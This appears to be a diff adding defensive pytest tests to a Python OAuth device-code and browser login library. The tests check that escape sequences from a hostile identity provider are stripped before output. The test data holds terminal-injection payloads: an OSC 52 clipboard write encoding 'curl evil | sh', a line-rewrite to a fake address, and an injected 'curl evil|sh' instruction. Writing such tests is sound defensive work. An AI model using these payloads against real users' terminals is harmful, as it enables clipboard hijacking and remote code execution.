@@ -18,6 +18,7 @@ import requests
 
 from requests_silentauth import (
     AuthorizationCode,
+    AuthorizationDenied,
     DeviceCode,
     LoginExpired,
     MemoryStore,
@@ -143,7 +144,7 @@ class HostileIdP:
 
     MAX_POLLS = 200
 
-    def __init__(self, device_answer: str) -> None:
+    def __init__(self, device_answer: str, poll_answer: str | None = None) -> None:
         from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
         idp = self
@@ -162,7 +163,7 @@ class HostileIdP:
                     error = (
                         "authorization_pending" if idp.polls < idp.MAX_POLLS else "access_denied"
                     )
-                    status, body = 400, json.dumps({"error": error})
+                    status, body = 400, poll_answer or json.dumps({"error": error})
                 data = body.encode()
                 self.send_response(status)
                 self.send_header("Content-Type", "application/json")
@@ -232,3 +233,86 @@ def test_an_interval_of_zero_does_not_hammer_the_token_endpoint() -> None:
         assert 1 <= hostile.polls <= 3  # the first at once, then one a second at most
     finally:
         hostile.close()
+
+
+# -- terminal injection: server text printed on the user's terminal -------------------------------
+
+ESC = "\x1b"
+
+
+def hostile_device(device: str, poll: str | None = None) -> tuple[HostileIdP, SilentAuth]:
+    hostile = HostileIdP(device, poll)
+    grant = DeviceCode(
+        PUBLIC,
+        device_authorization_url=hostile.url + "/device",
+        token_url=hostile.url + "/token",
+    )  # the default show: printed to stderr
+    return hostile, SilentAuth(grant, store=MemoryStore(), prompt=True, token_timeout=2)
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        # OSC 52 writes the clipboard; CSI 2K + CR rewrites the line with another address.
+        ("user_code", json.dumps("WDJB-MJHT" + ESC + "]52;c;Y3VybCBldmlsIHwgc2g=" + "\a")),
+        (
+            "verification_uri",
+            json.dumps("https://id.example.com/device" + ESC + "[2K\rhttps://evil"),
+        ),
+        ("verification_uri_complete", json.dumps("https://id.example.com/d\n\nRun: curl evil|sh")),
+    ],
+    ids=["user_code", "verification_uri", "verification_uri_complete"],
+)
+def test_a_device_answer_with_control_characters_never_reaches_the_terminal(
+    field: tuple[str, str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile, auth = hostile_device(device_answer(**{field[0]: field[1]}))
+    try:
+        with pytest.raises(TokenEndpointError, match=field[0]):
+            auth.get_token()
+        err = capsys.readouterr().err
+        assert ESC not in err and "evil" not in err
+        assert hostile.polls == 0
+    finally:
+        hostile.close()
+
+
+def test_server_error_text_in_a_device_poll_cannot_drive_the_terminal() -> None:
+    poll = json.dumps(
+        {"error": "server_error" + ESC + "[2J", "error_description": ESC + "]52;c;ZXZpbA==\a boom"}
+    )
+    hostile, auth = hostile_device(device_answer(interval="0"), poll)
+    try:
+        with pytest.raises(TokenEndpointError) as info:
+            auth.get_token()
+        assert "boom" in str(info.value) and ESC not in str(info.value)
+        assert "\a" not in str(info.value)
+    finally:
+        hostile.close()
+
+
+def test_a_refusal_from_the_browser_cannot_drive_the_terminal(idp: TokenServer) -> None:
+    # What the provider's redirect carries ends up in the exception the CLI prints.
+    from urllib.parse import urlencode
+
+    threads: list[threading.Thread] = []
+
+    def provider_redirect(url: str) -> None:
+        query = parse_qs(urlsplit(url).query)
+        redirect, state = query["redirect_uri"][0], query["state"][0]
+        refusal = {
+            "error": "access_denied",
+            "error_description": "no" + ESC + "[2K\r" + "x" * 5000,
+            "state": state,
+        }
+        threads.append(
+            threading.Thread(target=requests.get, args=(redirect + "?" + urlencode(refusal),))
+        )
+        threads[-1].start()
+
+    with pytest.raises(AuthorizationDenied) as info:
+        browser_auth(idp, provider_redirect).get_token()
+    for t in threads:
+        t.join(10)
+    text = str(info.value)
+    assert ESC not in text and "\r" not in text and len(text) < 600
